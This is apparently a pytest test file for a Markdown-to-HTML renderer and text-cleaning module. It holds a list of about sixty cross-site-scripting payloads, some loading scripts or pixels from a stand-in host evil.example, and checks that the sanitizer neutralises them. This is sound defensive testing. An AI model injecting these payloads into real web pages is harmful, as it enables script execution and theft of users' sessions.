"""Text that people write."""

import unicodedata
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ideas.kernel.text import clean_text, first_sentence_of, folded, html_of, plain_text_of

# Ways of getting a script past a filter, as collected by those who look for them (OWASP's list and others'), in HTML,
# in Markdown, and in mixtures that parsers have read differently.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    '![x" onerror="alert(1)](https://evil.example/pixel.gif)',
    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
    '[x](https://a.example/" onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "[a](<javascript:alert(1)>)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```" onmouseover="alert(1)\nx\n```',
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "**<b onmouseover=alert(1)>x</b>**",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script\\>alert(1)\\</script\\>",
    "<scrıpt>alert(1)</scrıpt>",
    "\u202e<script>alert(1)</script>",
    '<a href="//evil.example" target=_blank ping=//evil.example>x</a>',
    "<h1 id=location>x</h1>",
    "<p class=hidden id=main data-hx-get=/cms/>x</p>",
    "<div hx-get=/sign-out/ hx-trigger=load>x</div>",
]
KNOWN = {
    *("p", "br", "hr", "em", "strong", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a"),
    *("h3", "h4", "h5", "h6"),
}
SCHEMES = ("http:", "https:", "mailto:", "tel:")


class Reader(HTMLParser):
    """Reads HTML as a browser does, and notes every element with its attributes."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.elements = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))


def assert_harmless(html):
    for tag, attributes in Reader(html).elements:
        assert tag in KNOWN, html
        assert set(attributes) <= ({"href", "title", "rel"} if tag == "a" else set()), html
        if tag == "a":
            assert attributes.get("rel") == "nofollow noopener ugc", html
            href = attributes.get("href", "").strip().lower()
            before_path = href.split("/")[0].split("?")[0].split("#")[0]
            assert ":" not in before_path or href.startswith(SCHEMES), html


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_reaches_a_reader(attack):
    assert_harmless(html_of(attack))


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_reaches_a_reader_from_inside_other_text(attack):
    assert_harmless(
        html_of(f"Avant {attack} après.\n\n* {attack}\n\n[{attack}](https://a.example) _{attack}_")
    )


@given(
    st.lists(
        st.sampled_from([*ATTACKS, "[", "](", ")", "`", "\n\n", "<", ">", '"', "&", "*", "# "]), max_size=6
    )
)
def test_no_mixture_of_attacks_reaches_a_reader(parts):
    assert_harmless(html_of("".join(parts)))


@given(st.text(max_size=200))
def test_any_text_at_all_is_shown_harmless(text):
    assert_harmless(html_of(text))


@pytest.mark.parametrize(
    ("link", "kept"),
    [
        ("https://a.example/x", True),
        ("http://a.example", True),
        ("mailto:alice@a.example", True),
        ("tel:+41790000000", True),
        ("/fr/ideas/", True),
        ("#besoin", True),
        ("javascript:alert(1)", False),
        ("data:text/html,x", False),
        ("ftp://a.example", False),
        ("file:///etc/passwd", False),
        ("intent://a.example", False),
    ],
)
def test_links_lead_to_the_web_mail_telephone_and_within(link, kept):
    assert (f'href="{link}"' in html_of(f"[x]({link})")) is kept


def test_links_say_that_the_lab_does_not_vouch_for_them():
    assert html_of("[x](https://a.example)") == (
        '<p><a href="https://a.example" rel="nofollow noopener ugc">x</a></p>\n'
    )


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("# Un", "<h3>Un</h3>\n"),
        ("## Deux", "<h4>Deux</h4>\n"),
        ("### Trois", "<h5>Trois</h5>\n"),
        ("#### Quatre", "<h6>Quatre</h6>\n"),
        ("###### Six", "<h6>Six</h6>\n"),
        ("Un\n===", "<h3>Un</h3>\n"),
    ],
)
def test_headings_take_their_place_below_those_of_the_page(markdown, html):
    assert html_of(markdown) == html


def test_ordinary_text_is_shown_as_it_is_meant():
    markdown = "Un **café** _chaud_, ~~froid~~ :\n\n* thé\n* lait\n\n1. un\n\n> dit\n\n`code`\nligne\n\n---"

    assert html_of(markdown) == (
        "<p>Un <strong>café</strong> <em>chaud</em>, <s>froid</s> :</p>\n<ul>\n<li>thé</li>\n<li>lait</li>\n</ul>\n"
        "<ol>\n<li>un</li>\n</ol>\n<blockquote>\n<p>dit</p>\n</blockquote>\n<p><code>code</code><br>\nligne</p>\n<hr>\n"
    )


def test_an_image_leaves_nothing_to_fetch():
    assert "img" not in html_of("![x](https://evil.example/pixel.gif)")


def test_safe_html_is_marked_safe():
    assert hasattr(html_of("x"), "__html__")


@pytest.mark.parametrize(
    ("raw", "kept"),
    [
        ("  a\r\nb\rc  ", "a\nb\nc"),
        ("a\x00\x07b\x1b[31m\x7f\x9f", "ab[31m"),
        ("\u202egnp.exe\u202c \u2066x\u2069", "gnp.exe x"),
        ("a\ud800b", "ab"),
        ("Cafe\u0301", "Café"),
        ("a\u2028b\x85c", "a\nb\nc"),
        ("« Quoi ? »", "« Quoi ? »"),
        ("👩\u200d🌾", "👩\u200d🌾"),
    ],
)
def test_text_is_kept_without_what_nobody_can_see(raw, kept):
    assert clean_text(raw) == kept


@pytest.mark.parametrize(
    "unseen",
    ["\u200b", " \u200d\u00a0\n", "\ufeff\u2060", "\u00ad", "\u3164", "\u2800\ufe0f", "\u034f\u180e"],
    ids=ascii,
)
@pytest.mark.parametrize("lines", [True, False])
def test_where_nothing_can_be_seen_there_is_no_text(unseen, lines):
    assert clean_text(unseen, lines=lines) == ""


@pytest.mark.parametrize(
    "seen",
    ["👩\u200d🌾", "می\u200cخواهم", "❤\ufe0f", "a\u200bb", "\u200bun", "\u0301", "?", "한글"],
    ids=ascii,
)
def test_what_joins_and_parts_letters_stays_between_them(seen):
    assert clean_text(seen) == clean_text(seen, lines=False) == seen


def test_a_title_is_one_line_and_keeps_its_no_break_spaces():
    assert clean_text("  Un \n\t titre \u2028 long  ", lines=False) == "Un titre long"
    assert clean_text("Un\u00a0café\u202f?", lines=False) == "Un\u00a0café\u202f?"


@given(st.text(alphabet=st.characters(codec=None), max_size=80), st.booleans())
def test_cleaning_twice_changes_nothing_and_the_result_can_be_stored(text, lines):
    once = clean_text(text, lines=lines)

    assert clean_text(once, lines=lines) == once
    assert unicodedata.is_normalized("NFC", once)
    once.encode()
    assert "\x00" not in once


def test_plain_text_has_no_mark_up():
    assert plain_text_of("# Un\n\n**Deux** [trois](https://a.example) <b>x</b> & `a<b`\n\n* quatre") == (
        "Un Deux trois <b>x</b> & a<b quatre"
    )
    assert plain_text_of("« Un\u00a0café\u202f? »\n\nOui") == "« Un\u00a0café\u202f? » Oui"


@pytest.mark.parametrize(
    ("text", "sentence"),
    [
        ("Un café. Et plus.", "Un café."),
        ("Pourquoi ? Parce que.", "Pourquoi ?"),
        (
            "«\u00a0Pourquoi\u00a0?\u00a0» est une question. Oui.",
            "«\u00a0Pourquoi\u00a0?\u00a0» est une question.",
        ),
        ("Sans fin", "Sans fin"),
        ("", ""),
        ("# Titre\n\nSuite.", "Titre Suite."),
    ],
)
def test_the_first_sentence(text, sentence):
    assert first_sentence_of(text) == sentence


def test_a_long_sentence_is_cut_at_a_word():
    assert first_sentence_of("un deux trois, quatre", 17) == "un deux trois…"
    assert first_sentence_of("x" * 50, 10) == "x" * 9 + "…"
    assert len(first_sentence_of("mot " * 200)) <= 280


@pytest.mark.parametrize(
    ("text", "found_as"),
    [
        ("L’Œuvre d’Orbe", "l oeuvre d orbe"),
        ("  Straße_Łódź  Ærø ", "strasse lodz aero"),
        ("ÉCOLE", "ecole"),
        ("…", ""),
    ],
)
def test_text_is_looked_up_without_accents_case_and_signs(text, found_as):
    assert folded(text) == found_as
